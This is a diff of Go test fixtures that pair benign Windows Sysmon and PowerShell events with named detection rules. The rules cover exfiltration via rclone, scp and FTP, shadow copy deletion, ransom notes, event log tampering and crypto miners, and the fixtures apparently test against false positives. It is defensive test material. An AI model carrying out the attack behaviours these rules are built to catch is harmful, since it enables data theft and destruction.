-			"CommandLine": "reg query \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Servers\"",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg query \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Servers\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "ef41b8ed-56af-5f1c-bdff-525a10ed784b", // Program in a User Folder Starts a Command Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd.exe /c \"C:\\ProgramData\\Package Cache\\{1A2B}\\vcredist.bat\"",
+				"ParentImage": "C:\\ProgramData\\Package Cache\\{1A2B}\\vc_redist.x64.exe",
+			},
+		},
+		{
+			ID:      "a33c05a3-6e4a-5409-81e0-990866e4f04c", // Win32 API Imported Into PowerShell With Add-Type
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Add-Type @\"\n[DllImport(\"user32.dll\")] public static extern bool SetForegroundWindow(IntPtr hWnd);\n\"@",
+			},
+		},
+		{
+			ID:      "5358945c-ca20-52d5-aed4-8da551a6be2a", // Equation Editor or Office Helper Starts a Process
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
+				"CommandLine": "\"EXCEL.EXE\" /dde",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "5513d9ed-be26-55ca-9a13-709323de6dc5", // Windows Script Host Runs a VBScript From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cscript.exe",
+				"CommandLine": "cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "f5ed4298-42c4-5824-843e-14e15864bf42", // Windows Script Host Runs a JScript From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cscript.exe",
+				"CommandLine": "cscript.exe //nologo C:\\Windows\\System32\\winrm.vbs get winrm/config",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "3749450e-6a85-5815-964b-1c7416e2ba79", // AutoIt or AutoHotkey Interpreter Runs a Script From a User-Writable Path
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\AutoHotkey\\AutoHotkey.exe",
+				"CommandLine": "\"C:\\Program Files\\AutoHotkey\\AutoHotkey.exe\" \"C:\\Program Files\\AutoHotkey\\WindowSpy.ahk\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "cae60c39-4510-5682-bd85-ddd78962ebc0", // Data Archived With a Password or Into Volumes by a Command-Line Archiver
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\7-Zip\\7z.exe",
+				"CommandLine": "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\bob\\Downloads\\photos.zip -oC:\\Users\\bob\\Pictures",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "f271c951-751c-5a66-88a0-d3cb7aa21947", // Data Compressed From PowerShell Into a Staging Folder
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Compress-Archive -Path .\\build\\* -DestinationPath .\\release\\app.zip",
+			},
+		},
+		{
+			ID:      "dd2c2602-2003-5190-8b5d-11c725dc97db", // Outlook Data File Copied or Archived From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+				"CommandLine": "\"OUTLOOK.EXE\" /importprf C:\\Users\\bob\\corp.prf",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		{
+			ID:      "a4f72291-d889-5f79-aeba-5cc8ac3c810b", // Webcam Capture From PowerShell
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-PnpDevice -Class Camera | Select-Object FriendlyName, Status",
+			},
+		},
+		{
+			ID:      "925b82ff-a5ee-545d-bceb-b2399a545d17", // Video Capture Library Loaded by a Script Host or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\WindowsApps\\Microsoft.WindowsCamera_2024\\WindowsCamera.exe",
+				"ImageLoaded": "C:\\Windows\\System32\\avicap32.dll",
+			},
+		},
+		{
+			ID:      "483a6cb8-af6d-5655-b398-239c9bccd76a", // File Uploaded Over FTP, TFTP or Plain HTTP From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"CommandLine": "curl.exe -o C:\\Users\\bob\\Downloads\\tool.zip https://example.com/tool.zip",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "1bcd7235-619b-539a-92f2-36a1cafda898", // Rclone or MEGA Client Copies Data to Cloud Storage
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\ProgramData\\rclone\\rclone.exe",
+				"CommandLine": "rclone.exe listremotes",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "4f093d41-0e4a-56c2-bdc0-c9372e1a4ca4", // Archive Split Into Fixed-Size Volumes
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\WinRAR\\rar.exe",
+				"CommandLine": "rar.exe x C:\\Users\\bob\\Downloads\\docs.part1.rar",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "a746fe2b-702d-5644-a0c6-7924b5d30f2d", // File Uploaded With scp, pscp or sftp
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\OpenSSH\\scp.exe",
+				"CommandLine": "scp.exe admin@build01:/srv/artifacts/app.zip C:\\Users\\bob\\Downloads\\app.zip",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "4fb87cb9-267d-52b5-9cd5-16daaeaaaf63", // Volume Shadow Copies or Backup Catalog Deleted
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\vssadmin.exe",
+				"CommandLine": "vssadmin.exe list shadows",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "81c604ce-8e13-58a5-860a-ad205e0d7337", // Security, Backup or Database Service Stopped From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net stop spooler",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "fa9fec36-b37f-51bc-a7bb-d0ad3096f3cf", // Drive Formatted or Free Space Wiped From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\cipher.exe",
+				"CommandLine": "cipher.exe /e C:\\Users\\bob\\Private",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "59bd31d3-cc4f-53ed-9e12-3a918241044a", // Ransom Note Written
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
+			Fields: map[string]string{
+				"Image":          "C:\\Windows\\System32\\notepad.exe",
+				"TargetFilename": "C:\\Users\\bob\\Documents\\README.txt",
+			},
+		},
+		{
+			ID:      "fae1b996-0294-55fa-8493-ee26e3cd2ad3", // System Shutdown or Reboot Forced by a Script or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\shutdown.exe",
+				"CommandLine": "shutdown.exe /r /t 600 /c \"Updates\"",
+				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
+			},
+		},
+		{
+			ID:      "c6c98533-3847-5f94-8075-f99ca3541005", // Account Deleted or Its Password Reset From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net user bob",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "ec01ddad-c5d0-5170-b872-44ffc1b835a7", // Desktop Wallpaper Changed by a Script Host or User-Path Program
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Image":        "C:\\Windows\\explorer.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\Wallpaper",
+				"Details":      "C:\\Users\\bob\\Pictures\\beach.jpg",
+			},
+		},
+		{
+			ID:      "824e2c82-8bbb-5abe-a309-caebab6b9768", // Cryptocurrency Miner Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Program Files\\7-Zip\\7z.exe",
+				"CommandLine": "7z.exe x C:\\Users\\bob\\Downloads\\stratum-docs.zip",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		{
+			ID:      "1d22f737-9625-52cd-90ea-526e54faa04f", // Event Log Disabled or Redirected With wevtutil
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       "C:\\Windows\\System32\\wevtutil.exe",
+				"CommandLine": "wevtutil sl Security /ms:1073741824",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 	}...)
